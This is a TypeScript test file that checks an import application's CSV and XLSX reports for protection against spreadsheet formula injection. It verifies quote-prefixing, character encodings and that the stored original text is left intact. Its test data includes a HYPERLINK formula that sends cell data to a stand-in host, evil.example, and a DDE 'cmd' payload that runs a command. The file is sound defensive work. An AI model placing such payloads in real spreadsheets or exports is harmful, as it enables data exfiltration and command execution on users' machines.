import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { beforeAll, expect, it } from 'vitest';
import { startsLikeFormula } from '../../src/domain/formulaGuard.js';
import { importFile } from '../../src/import.js';
import { loadReference } from '../../src/reference/loadReference.js';
import { encodeCp932 } from '../../src/report/encodeCp932.js';
import { loadImportRecord } from '../../src/report/loadImportRecord.js';
import { writeReferenceDir } from '../helpers/referenceSet.js';
import { openpyxlMissing, readWithOpenpyxl } from '../helpers/openpyxl.js';
import { describeEachEngine } from '../helpers/testDatabase.js';
import { COL, HEADER, readCsvReport, readWorkbook, rejectsOf, reportOf, tempDir, uploadRow, writeXlsxUpload } from './reportsKit.js';

/**
 * Text a spreadsheet would run or re-parse (OWASP CSV injection): ASCII, full-width and small
 * forms, and behind the characters a reader skips or does not show (issue 15 item 6).
 */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"click")', '+1', '-2', '@SUM(A1:A2)', '\t=1', '＝1', '＋1', '－1', '＠A',
  ' =1', '\u00A0=1', '\u3000=1', '\u200B=1', '\uFEFF=1', '﹦1', '﹢1', '﹣1', '﹫A', '-B棟 サーバ室',
];
const HOSTILE_HEADER = '=cmd|\' /C calc\'!A0';

function expectSafe(values: unknown[], where: string): void {
  for (const value of values) {
    if (typeof value === 'string') expect(startsLikeFormula(value), `${where}: ${JSON.stringify(value)}`).toBe(false);
    else expect(value === null || value === undefined || typeof value === 'number', `${where}: ${JSON.stringify(value)}`).toBe(true);
  }
}

/** Plain values only (never a formula, hyperlink or rich-text object); formula-like text quote-prefixed. */
async function expectSafeWorkbook(file: string): Promise<void> {
  const workbook = await readWorkbook(file);
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        expect([ExcelJS.ValueType.String, ExcelJS.ValueType.Number, ExcelJS.ValueType.Null], `${sheet.name}!${cell.address}`).toContain(cell.type);
        // Never an apostrophe added to the text: the quote-prefix style says it.
        if (typeof cell.value === 'string') expect(cell.value.startsWith("'"), `${sheet.name}!${cell.address}`).toBe(false);
      });
    });
  }
  if (skipOpenpyxl) return;
  for (const [sheet, cells] of Object.entries(await readWithOpenpyxl(file))) {
    for (const cell of cells) {
      expect(['s', 'n'], `${sheet}!${cell.ref}`).toContain(cell.type);
      const formulaLike = typeof cell.value === 'string' && startsLikeFormula(cell.value);
      expect(cell.quotePrefix, `${sheet}!${cell.ref} ${JSON.stringify(cell.value)}`).toBe(formulaLike);
    }
  }
}

const skipOpenpyxl = await openpyxlMissing();
if (skipOpenpyxl) process.stderr.write(`reportsFormulaSafety: the quote-prefix checks are SKIPPED: ${skipOpenpyxl}\n`);

describeEachEngine('formula safety of reports', (t) => {
  let dir: string;
  let importId: string;
  const header = HEADER.map((h) => (h === '社内メモ' ? HOSTILE_HEADER : h));

  beforeAll(async () => {
    const ctx = t().context();
    await loadReference(ctx, await writeReferenceDir());
    dir = await tempDir();
    const rows = HOSTILE.map((h, i) => {
      const row = uploadRow(`HW-${String(i + 1).padStart(4, '0')}`, { '設置場所名': h, 'ビル名': h, '備考': h });
      row[COL['社内メモ']!] = h;
      return row;
    });
    // A rejected row whose offending code is hostile too (its message quotes it).
    rows.push(uploadRow('=1+2', { 'サポートID': '300000002', '備考': '-2' }));
    const file = await writeXlsxUpload(dir, 'hostile.xlsx', rows, header);
    const outcome = await importFile(ctx, { path: file, resellerCode: 'RS001' });
    importId = outcome.importId;
    expect(outcome.summary).toMatchObject({ registered: HOSTILE.length, rejected: 1 });
  });

  it('CSV: every formula-like field guarded with an apostrophe, the text kept after it', async () => {
    for (const encoding of ['utf8', 'cp932'] as const) {
      const file = await reportOf(t().db.knex, importId, dir, 'csv', { encoding, name: `h-${encoding}.csv` });
      const records = await readCsvReport(file, encoding === 'cp932' ? (b) => iconv.decode(b, 'cp932') : undefined);
      records.forEach((r, i) => expectSafe(r, `csv ${encoding} record ${i}`));
      expect(records[0]![COL['社内メモ']!]).toBe(`'${HOSTILE_HEADER}`);
      // CP932 has no NBSP, zero-width space, BOM or small forms: they are written as "?", guard kept.
      const written = (h: string) => (encoding === 'cp932' ? iconv.decode(encodeCp932(h), 'cp932') : h);
      HOSTILE.forEach((h, i) => {
        for (const column of ['設置場所名', 'ビル名', '備考', '社内メモ']) expect(records[i + 1]![COL[column]!]).toBe(`'${written(h)}`);
      });
      expect(records.at(-1)![COL['製品シリアルNo.']!]).toBe(`'=1+2`);
    }
  });

  it('XLSX report and rejects file: plain values, the original text, formula-like cells quote-prefixed', async () => {
    const reportFile = await reportOf(t().db.knex, importId, dir, 'xlsx');
    await expectSafeWorkbook(reportFile);
    const sheet = (await readWorkbook(reportFile)).worksheets[0]!;
    HOSTILE.forEach((h, i) => expect(sheet.getRow(i + 2).getCell(COL['設置場所名']! + 1).value).toBe(h));
    expect(sheet.getRow(1).getCell(COL['社内メモ']! + 1).value).toBe(HOSTILE_HEADER);
    // Numbers we write stay numbers (row numbers), never text.
    expect(sheet.getRow(2).getCell(HEADER.length + 1).type).toBe(ExcelJS.ValueType.Number);
    const rejectsFile = await rejectsOf(t().db.knex, importId, dir);
    await expectSafeWorkbook(rejectsFile);
    expect((await readWorkbook(rejectsFile)).worksheets[0]!.getRow(2).getCell(COL['製品シリアルNo.']! + 1).value).toBe('=1+2');
  });

  it('a report uploaded again yields the original text, and its result columns are left out', async () => {
    const ctx = t().context();
    const reports = [
      await reportOf(t().db.knex, importId, dir, 'csv', { name: 'again.csv' }),
      await reportOf(t().db.knex, importId, dir, 'xlsx', { name: 'again.xlsx' }),
      await reportOf(t().db.knex, importId, dir, 'csv', { name: 'again-en.csv', lang: 'en' }),
    ];
    const original = await t().db.knex('import_rows').where({ import_id: importId }).orderBy('seq').pluck('cells');
    for (const file of reports) {
      const again = await importFile(ctx, { path: file, resellerCode: 'RS001', dryRun: true });
      const record = await loadImportRecord(t().db.knex, again.importId);
      expect(record.facts?.headers, file).toEqual(header);
      expect(record.facts?.fileWarnings.map((w) => w.params.column), file).toEqual([HOSTILE_HEADER]);
      const cells = await t().db.knex('import_rows').where({ import_id: again.importId }).orderBy('seq').pluck('cells');
      expect(cells, file).toEqual(original);
    }
  });

  it('the database keeps the text as the reseller wrote it', async () => {
    const knex = t().db.knex;
    const stored = await knex('import_rows').where({ import_id: importId }).orderBy('seq').select('cells', 'site_name', 'pack_serial', 'status');
    HOSTILE.forEach((h, i) => {
      // The echoed cells are kept as JSON text (staging/stagedColumns.ts).
      const cells = JSON.parse(stored[i]!.cells) as string[];
      expect(cells[COL['設置場所名']!]).toBe(h);
      expect(cells[COL['社内メモ']!]).toBe(h);
      // Cells are trimmed before validation (SPEC §3), never neutralised.
      expect(stored[i]!.site_name).toBe(h.trim());
    });
    expect((JSON.parse(stored.at(-1)!.cells) as string[])[COL['製品シリアルNo.']!]).toBe('=1+2');
    const sites = await knex('registrations').where({ import_id: importId }).orderBy('import_seq').pluck('site_name');
    expect(sites).toEqual(HOSTILE.map((h) => h.trim()));
    const batch = await knex('import_batches').where({ id: importId }).first('file_facts');
    expect(batch?.file_facts?.headers).toContain(HOSTILE_HEADER);
  });
});
